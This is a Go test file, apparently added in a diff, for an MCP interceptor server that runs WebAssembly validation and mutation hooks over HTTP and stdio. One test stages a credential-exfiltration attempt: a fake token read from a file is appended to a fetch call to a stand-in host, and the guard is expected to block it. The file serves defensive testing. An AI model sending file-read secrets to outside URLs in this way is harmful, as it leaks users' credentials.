@@ -1,0 +1,233 @@
+package interceptor
+
+import (
+	"bufio"
+	"context"
+	"encoding/json"
+	"errors"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+)
+
+// e2eConfig is the interceptor configuration of the end-to-end tests, in
+// its file form; modules are written next to it.
+const e2eConfig = `{
+  "modules": {"behaviors": "behaviors.wasm", "guard": "cross-boundary-guard.wasm"},
+  "interceptors": [
+    {"name": "e2e/require-note", "type": "validation", "events": ["tools/call"], "phases": "request",
+     "module": "behaviors", "settings": {"behavior": "require-note"}},
+    {"name": "e2e/uppercase-note", "type": "mutation", "events": ["tools/call"], "phases": "both",
+     "module": "behaviors", "settings": {"behavior": "uppercase-note"}, "priorityHint": -10},
+    {"name": "e2e/guard", "type": "validation", "events": ["*"], "phases": "both",
+     "module": "guard", "grants": ["kv.get", "kv.set"]}
+  ]
+}`
+
+func writeE2EConfig(t *testing.T) string {
+	t.Helper()
+	dir := t.TempDir()
+	for file, mod := range map[string]string{"behaviors.wasm": "behaviors", "cross-boundary-guard.wasm": "cross-boundary-guard"} {
+		if err := os.WriteFile(filepath.Join(dir, file), buildHook(t, mod), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	p := filepath.Join(dir, "interceptors.json")
+	if err := os.WriteFile(p, []byte(e2eConfig), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+// call calls tool with args and decodes its structured content into out.
+func call(t *testing.T, cs *mcp.ClientSession, tool string, args any, out any) error {
+	t.Helper()
+	res, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: tool, Arguments: args})
+	if err != nil {
+		return err
+	}
+	if res.IsError {
+		t.Fatalf("%s: tool error %+v", tool, res.Content)
+	}
+	b, err := json.Marshal(res.StructuredContent)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := json.Unmarshal(b, out); err != nil {
+		t.Fatalf("%s: %v in %s", tool, err, b)
+	}
+	return nil
+}
+
+// exercise lists and invokes interceptors and runs chains through a client
+// session, whatever the transport.
+func exercise(t *testing.T, cs *mcp.ClientSession) {
+	tools, err := cs.ListTools(context.Background(), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var names []string
+	for _, tl := range tools.Tools {
+		names = append(names, tl.Name)
+	}
+	if got := strings.Join(names, ","); !strings.Contains(got, ToolList) || !strings.Contains(got, ToolInvoke) || !strings.Contains(got, ToolChain) {
+		t.Fatalf("tools: %s", got)
+	}
+
+	var list ListResult
+	if err := call(t, cs, ToolList, map[string]any{"event": "resources/read"}, &list); err != nil {
+		t.Fatal(err)
+	}
+	if len(list.Interceptors) != 1 || list.Interceptors[0].Name != "e2e/guard" {
+		t.Fatalf("list for resources/read: %+v", list)
+	}
+
+	var r Result
+	if err := call(t, cs, ToolInvoke, map[string]any{"name": "e2e/require-note", "event": "tools/call", "phase": "request",
+		"payload": map[string]any{"name": "echo", "arguments": map[string]any{}}}, &r); err != nil {
+		t.Fatal(err)
+	}
+	if r.Valid == nil || *r.Valid || len(r.Messages) != 1 || r.Messages[0].Message != "note is required" {
+		t.Fatalf("invoke require-note: %+v", r)
+	}
+
+	err = call(t, cs, ToolInvoke, map[string]any{"name": "e2e/nope", "event": "tools/call", "phase": "request", "payload": map[string]any{}}, &r)
+	var werr *jsonrpc.Error
+	if !errors.As(err, &werr) || werr.Code != CodeInvalidParams {
+		t.Fatalf("invoke of an unknown name: %v, want JSON-RPC error %d", err, CodeInvalidParams)
+	}
+
+	var cr ChainResult
+	if err := call(t, cs, ToolChain, map[string]any{"event": "tools/call", "phase": "request",
+		"payload": map[string]any{"name": "echo", "arguments": map[string]any{"note": "hi", "n": 42}}}, &cr); err != nil {
+		t.Fatal(err)
+	}
+	if cr.Status != StatusSuccess {
+		t.Fatalf("chain: %+v", cr)
+	}
+	if b, _ := json.Marshal(cr.FinalPayload); string(b) != `{"arguments":{"n":42,"note":"HI"},"name":"echo"}` {
+		t.Fatalf("final payload %s", b)
+	}
+
+	// The guard's taint, kept per session through kv.
+	ictx := map[string]any{"sessionId": "e2e-1"}
+	secret := "ghp_E2eT0kenReadFromFilesystem9"
+	if err := call(t, cs, ToolChain, map[string]any{"event": "tools/call", "phase": "response", "context": ictx,
+		"payload": map[string]any{"name": "read_file", "content": []any{map[string]any{"type": "text", "text": secret}}}}, &cr); err != nil || cr.Status != StatusSuccess {
+		t.Fatalf("response: %v %+v", err, cr)
+	}
+	var relay ChainResult
+	if err := call(t, cs, ToolChain, map[string]any{"event": "tools/call", "phase": "request", "context": ictx,
+		"payload": map[string]any{"name": "fetch", "arguments": map[string]any{"note": "x", "url": "https://x.example/" + secret}}}, &relay); err != nil {
+		t.Fatal(err)
+	}
+	if relay.Status != StatusValidationFailed || relay.AbortedAt == nil || relay.AbortedAt.Interceptor != "e2e/guard" || relay.FinalPayload != nil {
+		t.Fatalf("relay: %+v", relay)
+	}
+}
+
+func connect(t *testing.T, tr mcp.Transport) *mcp.ClientSession {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	t.Cleanup(cancel)
+	cs, err := mcp.NewClient(&mcp.Implementation{Name: "e2e", Version: "1"}, nil).Connect(ctx, tr, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = cs.Close() })
+	return cs
+}
+
+// TestServeHTTP serves the interceptors over streamable HTTP and drives them
+// with the official SDK's client.
+func TestServeHTTP(t *testing.T) {
+	if testing.Short() {
+		t.Skip("builds wasm modules")
+	}
+	cfg, err := LoadConfigFile(writeE2EConfig(t), "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	x, err := New(context.Background(), cfg, Options{Runtime: testRuntime(t), HostCaller: newHostCaller(t), Logger: quiet})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = x.Close(context.Background()) })
+	hs := httptest.NewServer(HTTPHandler(NewServer(x, "test")))
+	// Cleanups run last first: the client session closes (and with it
+	// its standalone SSE stream) before the server waits for its
+	// connections.
+	t.Cleanup(hs.Close)
+	cs := connect(t, &mcp.StreamableClientTransport{Endpoint: hs.URL, MaxRetries: -1})
+	if caps := cs.InitializeResult().Capabilities; caps == nil || caps.Experimental["interceptor"] == nil {
+		t.Errorf("capabilities lack the interceptor capability: %+v", caps)
+	}
+	exercise(t, cs)
+}
+
+// buildCommand builds the wasmhooks command (go build caches the work).
+func buildCommand(t *testing.T) string {
+	t.Helper()
+	goBin, err := exec.LookPath("go")
+	if err != nil {
+		t.Skip("no go command:", err)
+	}
+	bin := filepath.Join(t.TempDir(), "wasmhooks")
+	if b, err := exec.Command(goBin, "build", "-o", bin, "../cmd/wasmhooks").CombinedOutput(); err != nil {
+		t.Fatalf("building the command: %v\n%s", err, b)
+	}
+	return bin
+}
+
+// TestServeCLIHTTP runs `wasmhooks mcp --config --http 127.0.0.1:0` and
+// drives it over streamable HTTP with the official SDK's client.
+func TestServeCLIHTTP(t *testing.T) {
+	if testing.Short() {
+		t.Skip("builds wasm modules and the command")
+	}
+	cmd := exec.Command(buildCommand(t), "mcp", "--config", writeE2EConfig(t), "--cache-dir", "", "--http", "127.0.0.1:0")
+	stderr, err := cmd.StderrPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		_ = cmd.Process.Signal(os.Interrupt)
+		_ = cmd.Wait()
+	})
+	url := make(chan string, 1)
+	go func() {
+		sc := bufio.NewScanner(stderr)
+		for sc.Scan() {
+			if _, u, ok := strings.Cut(sc.Text(), "serving streamable HTTP at "); ok {
+				url <- u
+			}
+		}
+	}()
+	select {
+	case u := <-url:
+		exercise(t, connect(t, &mcp.StreamableClientTransport{Endpoint: u, MaxRetries: -1}))
+	case <-time.After(2 * time.Minute):
+		t.Fatal("the command did not say where it serves")
+	}
+}
+
+// TestServeStdio runs `wasmhooks mcp --config` and drives it over stdio with
+// the official SDK's client.
+func TestServeStdio(t *testing.T) {
+	if testing.Short() {
+		t.Skip("builds wasm modules and the command")
+	}
+	cmd := exec.Command(buildCommand(t), "mcp", "--config", writeE2EConfig(t), "--cache-dir", "")
+	cmd.Stderr = os.Stderr
+	exercise(t, connect(t, &mcp.CommandTransport{Command: cmd}))
+}
